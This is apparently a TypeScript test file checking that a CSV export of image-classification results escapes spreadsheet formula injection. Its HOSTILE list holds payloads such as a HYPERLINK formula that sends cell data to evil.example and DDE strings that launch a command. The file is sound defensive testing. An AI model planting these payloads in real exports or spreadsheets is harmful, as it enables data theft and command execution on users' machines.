// CSV export of folder results against formula injection: a hostile label, file name or error that starts with
// = + - @ (or tab / CR) must reach the spreadsheet as text, not as a formula; numbers stay numbers.
import * as assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { csvCell } from '../../../src/panels/csv';
import { batchCsv } from '../../../src/panels/protocol';

/** A small RFC 4180 reader, to check what a spreadsheet would see cell by cell. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') ((cell += '"'), i++);
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') (row.push(cell), (cell = ''));
    else if (c === '\n') (row.push(cell), rows.push(row), (row = []), (cell = ''));
    else cell += c;
  }
  return rows;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '=1,2',
];

describe('CSV export against formula injection', () => {
  it('prefixes cells that start with = + - @ tab or CR with an apostrophe', () => {
    assert.equal(csvCell('=1+1'), "'=1+1");
    assert.equal(csvCell('+1'), "'+1");
    assert.equal(csvCell('-1+1'), "'-1+1");
    assert.equal(csvCell('@SUM(A1)'), "'@SUM(A1)");
    assert.equal(csvCell('\t=1'), '"\'\t=1"');
    assert.equal(csvCell('\r=1'), '"\'\r=1"');
    assert.equal(csvCell('=A1,"x"'), '"\'=A1,""x"""');
  });

  it('leaves ordinary text and numbers (negative ones too) alone', () => {
    for (const v of ['macaw', 'a-b', 'x=1', '12.50', '-3', '-0.25', '1e-5', '']) assert.equal(csvCell(v), v);
  });

  it('no cell of a folder export with hostile labels, file names and errors starts a formula', () => {
    const rows = HOSTILE.map((h, i) => ({
      file: `${h}.jpg`,
      top1: { index: i, label: h, score: 0.5 },
      latencyMs: 1.5,
    }));
    rows.push({ file: 'ok.jpg', top1: { index: 88, label: 'macaw', score: 0.99 }, latencyMs: 2 });
    const csv = batchCsv([...rows, { file: 'bad.jpg', error: '=cmd|"/C calc"!A0' } as never]);
    const parsed = parseCsv(csv);
    assert.deepEqual(parsed[0], ['file', 'label', 'class', 'score', 'latency_ms', 'error']);
    assert.equal(parsed.length, rows.length + 2);
    for (const row of parsed.slice(1)) {
      assert.equal(row.length, 6, JSON.stringify(row));
      for (const cell of row)
        assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)} would run as a formula`);
    }
    // The text itself survives: only the apostrophe is added.
    HOSTILE.forEach((h, i) => assert.equal(parsed[i + 1][1], `'${h}`));
    assert.deepEqual(parsed[HOSTILE.length + 1], ['ok.jpg', 'macaw', '88', '0.990000', '2.00', '']);
    assert.equal(parsed.at(-1)![5], '\'=cmd|"/C calc"!A0');
  });
});
